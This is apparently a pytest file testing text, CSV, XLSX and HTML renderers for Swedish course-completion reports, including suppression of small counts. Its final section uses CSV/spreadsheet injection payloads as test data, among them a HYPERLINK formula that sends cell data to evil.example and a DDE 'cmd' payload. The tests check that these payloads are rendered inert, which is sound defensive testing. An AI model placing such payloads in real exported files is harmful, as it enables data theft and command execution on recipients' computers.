"""Renderers: text, CSV for Swedish Excel, XLSX and one self-contained HTML page."""

from __future__ import annotations

import csv
import dataclasses
import datetime
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from report_facts import AS_OF, LABELS, done, fact, many

from moodle_sync.reports import (
    Labels,
    Suppressed,
    Table,
    build_table,
    chart_from_table,
    html_document,
    to_csv,
    to_html,
    to_text,
    to_xlsx,
    uppfoljning,
)

D = datetime.date
SECRET = b"test secret"
NASTY = "Län <&> \"citat\" 'x'"


def hidden(table: Table, primary: set[tuple[int, str]], secondary: set[tuple[int, str]]) -> Table:
    """``table`` with the given cells hidden as rounding hides them: what the renderers are given to show."""
    marks = {ref: Suppressed(primary=True) for ref in primary} | {ref: Suppressed(primary=False) for ref in secondary}
    rows = [dict(row) for row in table.rows]
    for (r, key), mark in marks.items():
        rows[r][key] = mark
    return dataclasses.replace(table, rows=rows, suppressed=marks, threshold=5,
                               notes=[*table.notes, "Värden 1–4 visas som <5; dolda andelar visas som .."])


@pytest.fixture
def table() -> Table:
    """AB 3 enrolled (hidden), C 40/30, M 15/12 (hidden to protect the others), W 20/2 (2 hidden)."""
    facts = many(1, 18) + many(100, 2, completed_on=D(2024, 2, 1)) \
        + many(200, 10, county="C") + many(300, 30, county="C", completed_on=D(2024, 3, 1)) \
        + many(400, 3, county="AB") + many(500, 3, county="M") + many(600, 12, county="M", completed_on=D(2024, 4, 1))
    built = build_table(facts, dimensions=["county"], as_of=AS_OF, labels=LABELS,
                        measures=("enrolled", "completed", "completion_rate"))
    assert [row["county"] for row in built.rows] == ["Stockholms län", "Uppsala län", "Skåne län", "Dalarnas län"]
    return hidden(built, primary={(0, "enrolled"), (3, "completed")},
                  secondary={(0, "completion_rate"), (2, "enrolled"), (2, "completed"), (2, "completion_rate"),
                             (3, "completion_rate")})


def test_text_has_swedish_headings_markers_and_notes(table: Table) -> None:
    text = to_text(table)
    lines = text.splitlines()
    assert lines[0] == table.title and set(lines[1]) == {"="}
    header = "\n".join(lines[:next(i for i, line in enumerate(lines) if line.startswith("---"))])
    for heading in ("Län", "Inskrivna", "Genom-", "förda", "Andel"):  # terminal headings are short
        assert heading in header
    assert "<5" in text and ".." in text
    assert "75,0 %" in text                           # C: 30 of 40, decimal comma
    assert re.search(r"^Totalt\s+78\s+44\s+56,4 %$", text, re.M)
    assert re.search(r"^Skåne län\s+\.\.\s+\.\.\s+\.\.$", text, re.M)
    assert "Noter:" in text and "visas som <5" in text
    # columns line up: every value ends where its rule ends
    rule = next(line for line in lines if set(line) <= {"-", " "} and line.startswith("---"))
    ends = [m.end() for m in re.finditer(r"-+", rule)]
    for line in lines[lines.index(rule) + 1:]:
        if not line.strip() or line.startswith("-"):
            break
        for end in ends[1:]:
            assert line[end - 1] != " ", (line, end)


def test_text_wraps_long_headings_and_keeps_widths_fitted() -> None:
    t = build_table([fact(1)], dimensions=["county"], as_of=AS_OF)
    lines = to_text(t).splitlines()
    assert max(len(line) for line in lines) <= 100
    # "Dags för repetition" is "Dags att repetera" in the terminal, over several lines
    assert any(line.rstrip().endswith("Dags") for line in lines) and "Dags att repetera = Dags för repetition" \
        in " ".join(to_text(t).split())


def test_csv_has_bom_semicolons_and_parses_back(table: Table, tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    to_csv(table, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b";" in raw and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["Län", "Inskrivna", "Genomförda", "Andel genomförda (%)"]
    data = {r[0]: r[1:] for r in rows[1:6]}
    assert list(data) == ["Stockholms län", "Uppsala län", "Skåne län", "Dalarnas län", "Totalt"]
    assert data["Uppsala län"] == ["40", "30", "75,0"]
    assert data["Dalarnas län"] == ["20", "<5", ".."]
    assert data["Stockholms län"] == ["<5", "0", ".."]
    assert data["Totalt"] == ["78", "44", "56,4"]
    assert rows[6] == [] and any("visas som <5" in r[0] for r in rows[7:])


def test_csv_to_a_stream_writes_the_bom_too(table: Table) -> None:
    stream = io.StringIO()
    to_csv(table, stream)
    assert stream.getvalue().startswith("\ufeffLän;")


def test_xlsx_loads_back_with_numbers_markers_and_notes(table: Table, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    to_xlsx(table, path)
    ws = openpyxl.load_workbook(path).active
    assert ws["A1"].value == table.title
    assert [c.value for c in ws[2]] == ["Län", "Inskrivna", "Genomförda", "Andel genomförda"]
    assert all(c.font.bold for c in ws[2])
    assert ws.freeze_panes == "B3"
    rows = {r[0]: r[1:] for r in ws.iter_rows(min_row=3, max_row=7, values_only=True)}
    assert rows["Uppsala län"] == (40, 30, 0.75)
    assert rows["Dalarnas län"] == (20, "<5", "..")
    assert rows["Totalt"][:2] == (78, 44) and isinstance(rows["Totalt"][0], int)
    assert ws.cell(row=4, column=4).number_format == "0.0%"
    assert ws.cell(row=7, column=1).font.bold
    notes = [ws.cell(row=r, column=1).value for r in range(8, ws.max_row + 1)]
    assert "Noter" in notes and any(n and "visas som <5" in n for n in notes)


def test_xlsx_of_a_report_has_an_about_sheet_and_one_sheet_per_table(tmp_path: Path) -> None:
    report = uppfoljning(many(1, 12) + many(50, 8, completed_on=D(2024, 2, 2)), labels=LABELS, as_of=AS_OF,
                         secret=SECRET)
    path = tmp_path / "r.xlsx"
    to_xlsx(report, path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Om rapporten", "Per län", "Per målgrupp", "Per kurs", "Per månad"]
    assert book["Om rapporten"]["A1"].value == report.title


class _Structure(HTMLParser):
    """Collects tags and checks that every opened element is closed in order."""

    VOID = {"meta", "br", "hr", "img", "input", "link", "col", "area", "base", "source", "wbr"}
    SVG_SELF_CLOSING = {"rect", "line", "path", "circle", "polyline"}

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.tags: list[str] = []
        self.ids: list[str] = []
        self.errors: list[str] = []
        self.doctype = ""

    def handle_decl(self, decl: str) -> None:
        self.doctype = decl

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.ids += [v or "" for k, v in attrs if k == "id"]
        if tag not in self.VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.ids += [v or "" for k, v in attrs if k == "id"]

    def handle_endtag(self, tag: str) -> None:
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> closes {self.stack[-1:]}")
        else:
            self.stack.pop()


def nasty_report_html() -> str:
    labels = Labels(counties={"W": NASTY}, target_groups=LABELS.target_groups, courses=LABELS.courses)
    facts = many(1, 12, organisation=NASTY, completed_on=D(2024, 3, 3)) + many(50, 9, county="C") \
        + many(80, 2, county="AB", completed_on=D(2024, 4, 4)) + [done(90, D(2024, 5, 5), county="AB")]
    report = uppfoljning(facts, labels=labels, as_of=AS_OF, secret=SECRET)
    by_organisation = build_table(facts, dimensions=["organisation"], as_of=AS_OF)
    report.tables.append(hidden(by_organisation, primary={(0, "completed"), (0, "completed_current")},
                                secondary={(0, "completion_rate"), (1, "completed"), (1, "completed_current"),
                                           (1, "completion_rate")}))
    return html_document(report)


def test_html_is_self_contained_html5() -> None:
    page = nasty_report_html()
    assert page.startswith("<!doctype html>\n<html lang=\"sv\">")
    assert '<meta charset="utf-8">' in page
    lowered = page.lower()
    for forbidden in ("<script", "http://", "https://", "<link", " src=", "@import", "@font-face", "<img",
                      "<iframe", "<object", "javascript:"):
        assert forbidden not in lowered, forbidden
    assert re.findall(r"url\(([^)]*)\)", page) and all(u.startswith("#") for u in re.findall(r"url\(([^)]*)\)", page))
    assert "<svg" in page and "<table>" in page
    parser = _Structure()
    parser.feed(page)
    parser.close()
    assert parser.doctype.lower() == "doctype html"
    assert parser.errors == [] and parser.stack == []
    assert len(parser.ids) == len(set(parser.ids)), "element ids are unique"
    assert parser.tags.count("svg") == 3


def test_html_escapes_every_name() -> None:
    page = nasty_report_html()
    assert NASTY not in page
    assert "Län &lt;&amp;&gt; &quot;citat&quot; &#x27;x&#x27;" in page
    assert "<&>" not in page


def test_html_has_title_date_notes_charts_then_tables() -> None:
    report = uppfoljning(many(1, 20) + many(50, 10, completed_on=D(2024, 2, 2)), labels=LABELS, as_of=AS_OF,
                         secret=SECRET)
    page = html_document(report)
    assert f"<h1>{report.title}</h1>" in page and "Skapad 2024-06-30" in page
    assert "visas som &lt;5" in page
    assert page.index("visas som &lt;5") < page.index("<svg") < page.index("<table>")
    for title in ("Andel genomförda per län", "Andel genomförda per målgrupp", "Genomförda per månad"):
        assert f"<figcaption>{title}</figcaption>" in page


def test_hidden_values_are_not_drawn_to_scale() -> None:
    # W: 2 of 20 completed (hidden, so its rate is hidden); C: 30 of 40
    facts = many(1, 18) + many(100, 2, completed_on=D(2024, 2, 1)) + many(200, 10, county="C") \
        + many(300, 30, county="C", completed_on=D(2024, 3, 1))
    built = build_table(facts, dimensions=["county"], as_of=AS_OF,
                        measures=("enrolled", "completed", "completion_rate"))
    assert [row["county"] for row in built.rows] == ["Uppsala län", "Dalarnas län"]
    table = hidden(built, primary={(1, "completed")},
                   secondary={(0, "completed"), (0, "completion_rate"), (1, "completion_rate")})
    completed = chart_from_table(table, label="county", value="completed", title="Genomförda")
    rate = chart_from_table(table, label="county", value="completion_rate", title="Andel")
    page = html_document([table, completed, rate])
    svgs = re.findall(r"<svg.*?</svg>", page, re.S)
    assert len(svgs) == 2
    counts, rates = svgs
    assert counts.count('class="hidden"') == 2 and "&lt;5" in counts        # W's 2 and its partner C's 30
    assert ">30<" not in counts and ">2<" not in counts
    assert rates.count('class="hidden"') == 2 and ".." in rates
    assert "10,0" not in rates and "75,0" not in rates
    # a hidden stub has the same small width whatever the value
    assert set(re.findall(r'class="hidden" x="\d+" y="[\d.]+" width="(\d+)"', counts)) == {"16"}


def test_to_html_writes_utf8(tmp_path: Path, table: Table) -> None:
    path = tmp_path / "r.html"
    to_html(table, path, title="Rapport för Dalarna", generated_on=D(2024, 7, 1))
    page = path.read_text(encoding="utf-8")
    assert "<title>Rapport för Dalarna</title>" in page and "Skapad 2024-07-01" in page


# --- nothing a spreadsheet program would run ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Falu kommun")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def formula_table() -> Table:
    facts = [f for i, name in enumerate(FORMULAS) for f in many(10 * i + 1, 6, organisation=name)]
    return build_table(facts, dimensions=["organisation"], as_of=AS_OF, labels=LABELS,
                       measures=("enrolled",), title="=cmd|' /C calc'!A0")


def test_csv_cells_never_start_like_a_formula() -> None:
    stream = io.StringIO()
    to_csv(formula_table(), stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"), newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    organisations = {row[0] for row in rows[1:7]}
    assert organisations == {"'" + name for name in FORMULAS}      # shown as text, nothing lost


def test_xlsx_writes_formula_like_text_as_string_cells(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    to_xlsx(formula_table(), path)
    import zipfile

    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet                # no formula anywhere in the sheet
    ws = openpyxl.load_workbook(path).active
    assert ws["A1"].value == "=cmd|' /C calc'!A0" and ws["A1"].data_type == "s"
    names = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=1) for r in range(3, 9)}
    assert set(names) == {name.replace("\r", "\n") for name in FORMULAS}   # XML reads a CR back as LF
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names.values())
